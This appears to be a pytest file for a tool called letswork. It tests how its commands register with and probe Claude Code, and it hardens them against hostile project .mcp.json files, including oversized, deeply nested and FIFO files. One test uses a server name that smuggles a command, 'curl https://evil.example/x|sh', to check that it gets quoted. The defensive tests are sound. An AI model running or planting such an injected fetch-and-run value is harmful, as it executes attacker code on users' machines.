"""Claude Code and the commands: `start` registers nothing unless asked, `doctor` reports
duplicate registrations and whether pushes can arrive, `join` launches with channels when the
installed Claude Code knows them. A stand-in `claude` on PATH records its calls and answers the
channels probe as a newer (or an older) Claude Code does; its configuration lives in a
CLAUDE_CONFIG_DIR of the test's own."""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
from pathlib import Path

import pytest

from letswork.ui import claude as cc
from tests.support.hubs import make_project
from tests.support.processes import hub_process

FAKE_CLAUDE = """#!/bin/sh
# A stand-in for Claude Code's CLI: records its argv, answers the channels probe.
printf '%s\\n' "$*" >> "$FAKE_CLAUDE_LOG"
case "$1 $3" in
  "--dangerously-load-development-channels --print")
    if [ "$FAKE_CLAUDE_CHANNELS" = yes ]; then
      echo "Error: Input must be provided either through stdin or as a prompt argument" >&2
    else
      echo "error: unknown option '--dangerously-load-development-channels'" >&2
    fi
    exit 1;;
esac
exit 0
"""


def letswork(
    *args: str, env: dict[str, str], cwd: Path | None = None
) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "letswork", *args],
        capture_output=True,
        text=True,
        timeout=120,
        env={**os.environ, **env},
        cwd=cwd,
        stdin=subprocess.DEVNULL,
        check=False,
    )


@pytest.fixture
def project(tmp_path: Path) -> Path:
    return make_project(tmp_path / "project")


def claude_env(tmp_path: Path, *, channels: bool) -> tuple[dict[str, str], Path]:
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir(exist_ok=True)
    script = bin_dir / "claude"
    script.write_text(FAKE_CLAUDE, encoding="utf-8")
    script.chmod(0o755)
    log = tmp_path / "claude.log"
    config = tmp_path / "claude-config"
    config.mkdir(exist_ok=True)
    env = {
        "PATH": f"{bin_dir}{os.pathsep}{os.environ['PATH']}",
        "FAKE_CLAUDE_LOG": str(log),
        "FAKE_CLAUDE_CHANNELS": "yes" if channels else "no",
        "CLAUDE_CONFIG_DIR": str(config),
    }
    return env, log


def calls(log: Path) -> list[str]:
    return log.read_text().splitlines() if log.exists() else []


def test_start_registers_nothing_with_claude_code_and_says_how(
    project: Path, tmp_path: Path
) -> None:
    env, log = claude_env(tmp_path, channels=True)
    with hub_process(project, env=env) as hp:
        assert hp.wait_stderr("claude mcp add -s local letswork --", timeout=30)
        assert hp.terminate() == 0
    assert not [c for c in calls(log) if c.startswith("mcp")]
    hint = next(line for line in hp.stderr_lines if "claude mcp add" in line)
    assert f"channel --host --project {project.resolve()}" in hint
    assert "--register-claude" in hint


def test_start_with_register_claude_registers_once_under_the_readme_name(
    project: Path, tmp_path: Path
) -> None:
    env, log = claude_env(tmp_path, channels=True)
    with hub_process(project, "--register-claude", env=env) as hp:
        assert hp.wait_stderr("Claude Code is set up for this folder", timeout=30)
        assert hp.terminate() == 0
    mcp = [c for c in calls(log) if c.startswith("mcp")]
    assert mcp[:2] == ["mcp remove -s local letswork-host", "mcp remove -s local letswork"]
    assert [c for c in mcp if c.startswith("mcp add")] == [
        "mcp add -s local letswork -- " + " ".join(cc.channel_command(project.resolve()))
    ]


def _register(config: Path, project: Path, servers: dict[str, list[str]]) -> None:
    entries = {
        name: {"type": "stdio", "command": argv[0], "args": argv[1:], "env": {}}
        for name, argv in servers.items()
    }
    data = {"projects": {str(project.resolve()): {"mcpServers": entries}}}
    (config / ".claude.json").write_text(json.dumps(data), encoding="utf-8")


def test_doctor_reports_two_letswork_servers_for_one_folder(project: Path, tmp_path: Path) -> None:
    env, _log = claude_env(tmp_path, channels=True)
    host = ["letswork", "channel", "--host", "--project", str(project.resolve())]
    _register(Path(env["CLAUDE_CONFIG_DIR"]), project, {"letswork-host": host, "letswork": host})
    out = letswork("doctor", "--project", str(project), env=env)
    assert out.returncode == 1, out.stdout
    assert "starts letswork 2 times" in out.stdout
    assert "claude mcp remove -s local letswork-host" in out.stdout


def test_doctor_is_content_with_one_registration(project: Path, tmp_path: Path) -> None:
    env, _log = claude_env(tmp_path, channels=True)
    host = ["letswork", "channel", "--host", "--project", str(project.resolve())]
    _register(Path(env["CLAUDE_CONFIG_DIR"]), project, {"letswork": host})
    out = letswork("doctor", "--project", str(project), env=env)
    assert "starts letswork here once: server 'letswork' (local scope)" in out.stdout
    assert "FIX" not in out.stdout, out.stdout


@pytest.mark.parametrize("channels", [True, False], ids=["channels", "no-channels"])
def test_doctor_says_whether_pushes_can_arrive(
    project: Path, tmp_path: Path, channels: bool
) -> None:
    env, _log = claude_env(tmp_path, channels=channels)
    out = letswork("doctor", "--project", str(project), env=env)
    if channels:
        assert "can receive the channel's pushes" in out.stdout
    else:
        assert "pushes cannot arrive" in out.stdout and "get_notifications" in out.stdout


def test_doctor_explains_local_mode_without_cloudflared(project: Path, tmp_path: Path) -> None:
    empty = tmp_path / "empty"
    empty.mkdir()
    python_dir = str(Path(sys.executable).parent)
    out = letswork("doctor", "--project", str(project), env={"PATH": f"{empty}:{python_dir}"})
    assert shutil.which("cloudflared", path=f"{empty}:{python_dir}") is None
    assert "local mode" in out.stdout
    assert "brew install cloudflared" in out.stdout
    assert "--bind 0.0.0.0" in out.stdout and "--public-url ws://LAN-IP" in out.stdout
    assert "ssh -N -L PORT:127.0.0.1:PORT" in out.stdout


@pytest.mark.parametrize("channels", [True, False], ids=["channels", "no-channels"])
def test_join_launches_claude_code_with_channels_when_it_knows_them(
    project: Path, tmp_path: Path, channels: bool
) -> None:
    env, log = claude_env(tmp_path, channels=channels)
    with hub_process(project, "--auto-admit") as hp:
        out = letswork("join", hp.code, "--name", "alice", env=env, cwd=tmp_path)
        assert out.returncode == 0, out.stderr
    launched = calls(log)[-1]
    if channels:
        assert launched == "--dangerously-load-development-channels server:letswork"
    else:
        assert launched == ""
        assert "get_notifications" in out.stderr


# A hostile file in the project (docs/security.md, "What people see"): the folder's .mcp.json is
# read by `start` and `doctor` as the host; whoever wrote the project wrote it.

_CHANNEL_SERVER = {"command": "letswork", "args": ["channel"]}


def _doctor(project: Path, env: dict[str, str]) -> subprocess.CompletedProcess[str]:
    """`letswork doctor` run from inside the project, as a host does; at most 60 s."""
    return subprocess.run(
        [sys.executable, "-m", "letswork", "doctor"],
        capture_output=True,
        text=True,
        timeout=60,
        env={**os.environ, **env},
        cwd=project,
        stdin=subprocess.DEVNULL,
        check=False,
    )


@pytest.mark.parametrize("kind", ["deep", "fifo"])
def test_a_hostile_mcp_json_neither_crashes_nor_stalls_doctor_or_start(
    project: Path, tmp_path: Path, kind: str
) -> None:
    # Deep: json.loads raises RecursionError (not a ValueError) and killed both commands with
    # a traceback, `start` after its hub was up. A FIFO: open() waited for a writer for ever.
    if kind == "deep":
        (project / ".mcp.json").write_text("[" * 100_000, encoding="utf-8")
    else:
        os.mkfifo(project / ".mcp.json")
    env, _log = claude_env(tmp_path, channels=True)
    out = _doctor(project, env)
    assert "Traceback" not in out.stderr, out.stderr
    assert "has no letswork server" in out.stdout, out.stdout
    with hub_process(project, env=env) as hp:
        assert hp.wait_stderr("claude mcp add -s local letswork --", timeout=30)
        assert hp.terminate() == 0, "".join(hp.stderr_lines)


def test_doctor_quotes_server_names_from_a_projects_mcp_json(project: Path, tmp_path: Path) -> None:
    # The names come from the project's .mcp.json: doctor printed them into the command it
    # tells the host to run (`claude mcp remove -s project x; curl ...|sh #`), and a newline in
    # one forged a line of its own ("ok    all good"), one starting with - reads as an option.
    # Such servers are now named (not counted, see below); the same names in Claude Code's own
    # configuration are quoted in the command.
    evil = "x; curl https://evil.example/x|sh #"
    names = [evil, "y\nok    all good", "--scope=user"]
    servers = {"letswork": _CHANNEL_SERVER, **dict.fromkeys(names, _CHANNEL_SERVER)}
    (project / ".mcp.json").write_text(json.dumps({"mcpServers": servers}), encoding="utf-8")
    env, _log = claude_env(tmp_path, channels=True)
    argv = ["letswork", "channel", "--host", "--project", str(project.resolve())]
    _register(Path(env["CLAUDE_CONFIG_DIR"]), project, dict.fromkeys(["letswork", *names], argv))
    out = _doctor(project, env)
    assert "starts letswork 4 times" in out.stdout, out.stdout
    assert not [line for line in out.stdout.splitlines() if line.startswith("ok    all good")]
    assert "has a server 'y ok all good' that runs: letswork channel" in out.stdout
    fix = next(line for line in out.stdout.splitlines() if "-> keep" in line)
    assert f"claude mcp remove -s local '{evil}'" in fix
    assert "claude mcp remove -s local 'y ok all good'" in fix
    assert "claude mcp remove -s local -- --scope=user" in fix


def test_the_channels_probe_runs_claude_outside_the_project(project: Path, tmp_path: Path) -> None:
    # The probe is `claude FLAG server:letswork --print`: print mode skips Claude Code's folder
    # trust dialog, so run in the project (doctor's folder) it would start Claude Code on the
    # project's own settings and hooks unasked. It runs in an empty folder of its own.
    env, log = claude_env(tmp_path, channels=True)
    script = Path(env["PATH"].split(os.pathsep)[0]) / "claude"
    script.write_text(
        FAKE_CLAUDE.replace('"$*" >> "$FAKE_CLAUDE_LOG"', '"$(pwd) $*" >> "$FAKE_CLAUDE_LOG"'),
        encoding="utf-8",
    )
    out = _doctor(project, env)
    assert "can receive the channel's pushes" in out.stdout, out.stdout
    probes = [c for c in calls(log) if "--print" in c]
    assert probes, calls(log)
    for probe in probes:
        where = Path(probe.split(" ", 1)[0])
        assert where.resolve() != project.resolve()
        assert not where.exists() or not any(where.iterdir())


def test_a_projects_mcp_json_is_not_taken_for_the_hosts_registration(
    project: Path, tmp_path: Path
) -> None:
    # A project can ship a .mcp.json whose "letswork" server runs a script of its own. doctor
    # said "ok ... starts letswork here once" for it and start stopped printing the command
    # that registers the real channel, so the host was told to trust the project's server.
    fake = {"command": "./letswork", "args": ["channel", "--host"]}
    (project / ".mcp.json").write_text(json.dumps({"mcpServers": {"letswork": fake}}), "utf-8")
    env, _log = claude_env(tmp_path, channels=True)
    out = _doctor(project, env)
    assert "starts letswork here once" not in out.stdout, out.stdout
    assert "has no letswork server" in out.stdout
    shipped = next(line for line in out.stdout.splitlines() if "./letswork channel --host" in line)
    assert shipped.startswith("note") and ".mcp.json" in shipped
    with hub_process(project, env=env) as hp:
        assert hp.wait_stderr("claude mcp add -s local letswork --", timeout=30)
        assert hp.terminate() == 0


def test_a_projects_mcp_json_is_read_only_up_to_a_config_files_size(
    project: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # Read up to Claude Code's own cap (64 MiB), a project's .mcp.json of `[],` items made
    # start and doctor build 22 million lists: 1.6 GB of memory and 6 s. A real one is a few
    # hundred bytes; over MAX_PROJECT_MCP_BYTES it counts as empty.
    monkeypatch.setenv("CLAUDE_CONFIG_DIR", str(tmp_path))
    servers = {"letswork": {"command": "./letswork", "args": ["channel"]}}
    padding = [[]] * (cc.MAX_PROJECT_MCP_BYTES // 3)
    text = json.dumps({"mcpServers": servers, "padding": padding}, separators=(",", ":"))
    assert len(text) > cc.MAX_PROJECT_MCP_BYTES
    (project / ".mcp.json").write_text(text, encoding="utf-8")
    assert cc.find_registrations(project) == []
    (project / ".mcp.json").write_text(json.dumps({"mcpServers": servers}), encoding="utf-8")
    assert [r.scope for r in cc.find_registrations(project)] == ["project"]


def test_a_projects_mcp_json_cannot_flood_doctor(project: Path, tmp_path: Path) -> None:
    # Under 1 MiB a .mcp.json holds some 20,000 servers that run `letswork channel`: doctor
    # wrote a note for each. It names the first few and counts the rest.
    servers = {f"s{i}": _CHANNEL_SERVER for i in range(5000)}
    (project / ".mcp.json").write_text(json.dumps({"mcpServers": servers}), encoding="utf-8")
    env, _log = claude_env(tmp_path, channels=True)
    out = _doctor(project, env)
    assert len(out.stdout.splitlines()) < 40, out.stdout[:3000]
    assert "has 4997 more servers that run letswork" in out.stdout
